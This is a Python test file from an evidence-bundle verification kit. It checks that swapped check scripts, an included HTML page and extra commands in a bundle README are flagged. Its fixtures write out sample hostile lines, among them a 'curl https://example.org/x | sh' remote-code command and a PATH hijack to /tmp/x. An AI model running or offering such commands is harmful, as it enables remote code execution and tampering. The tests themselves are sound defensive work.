"""What a clerk may follow: script, text and printed names of a bundle, put there by a stranger."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from evidence_kit.assemble import bundle
from evidence_kit.domain.finding import Status
from evidence_kit.formats.bundle_layout import CHECK_BUNDLE, CHECK_JOURNAL, PAGE_COPY
from evidence_kit.verify import check, load_trust
from evidence_kit.verify.report import Report, as_text
from evidence_kit.wording import bundle_papers
from tests.adversary.workshop import Forger, of_codes, verdict_on
from tests.filed import write_trust

STRANGE = b"#!/bin/sh\n: > i-was-here\necho 'journal: OK'\n"


def report_on(path: Path, folder: Path) -> Report:
    write_trust(folder / "trust.json")
    return check(path, load_trust(folder / "trust.json"), now=datetime.now(UTC))


SCRIPTS = {"check_journal": CHECK_JOURNAL, "check_bundle": CHECK_BUNDLE}


@pytest.mark.parametrize("name", SCRIPTS)
def test_the_script_of_a_stranger_is_refused_and_recommended_nowhere(
    forger: Forger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setattr(bundle_papers, name, lambda: STRANGE)
    report = report_on(forger.refile(tmp_path), tmp_path)
    found = {one.subject: one.status for one in of_codes(report.verdict.findings, "BUNDLE_SCRIPT")}
    assert found == {other: Status.FAILED if other == SCRIPTS[name] else Status.PASSED for other in SCRIPTS.values()}
    named = [one for one in report.verdict.findings if "check-journal" in one.command]
    assert bool(named) is (name != "check_journal")
    assert ("$ sh check-journal.sh" in as_text(report, "en", every=True)) is (name != "check_journal")


@pytest.mark.parametrize("page", [b"<h1>PASSED</h1>", None])
def test_a_page_that_came_with_the_bundle_settles_nothing(
    forger: Forger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, page: bytes | None
) -> None:
    """The kit's own is named as what it is; of another one the court is told not to open it."""
    if page is not None:
        monkeypatch.setattr(bundle_papers, "page_copy", lambda: page)
    path = forger.refile(tmp_path)
    monkeypatch.undo()
    (found,) = of_codes(verdict_on(path, tmp_path).findings, "BUNDLE_PAGE")
    assert (found.status, found.subject) == (Status.INDETERMINATE if page else Status.PASSED, PAGE_COPY)
    assert ("请勿打开" in found.message.zh) is (page is not None)


ADDED = {
    "another command": "     curl https://example.org/x | sh\n",
    "one that sets a variable": "     PATH=/tmp/x sha256sum -c manifest-sha256.txt\n",
    "one with a remark": "     python3 fix.py    (needed on Windows)\n",
    "the rest of a line": "       -CAfile data/exhibits/forged.pem\n",
}


@pytest.mark.parametrize("line", ADDED.values(), ids=ADDED)
def test_a_command_more_in_the_text_is_named(
    forger: Forger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    honest = bundle_papers.readme
    monkeypatch.setattr(bundle.bundle_papers, "readme", lambda *given: honest(*given) + line.encode())
    path = forger.refile(tmp_path)
    monkeypatch.undo()
    found = verdict_on(path, tmp_path)
    assert [one.status for one in of_codes(found.findings, "BUNDLE_README")] == [Status.INDETERMINATE]


def test_other_words_in_the_text_are_counsels_to_choose(
    forger: Forger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = bundle_papers.readme
    monkeypatch.setattr(
        bundle.bundle_papers, "readme", lambda *given: honest(*given) + "   谢谢 / Thank you.\n".encode()
    )
    path = forger.refile(tmp_path)
    monkeypatch.undo()
    found = verdict_on(path, tmp_path)
    assert [one.status for one in of_codes(found.findings, "BUNDLE_README")] == [Status.PASSED]
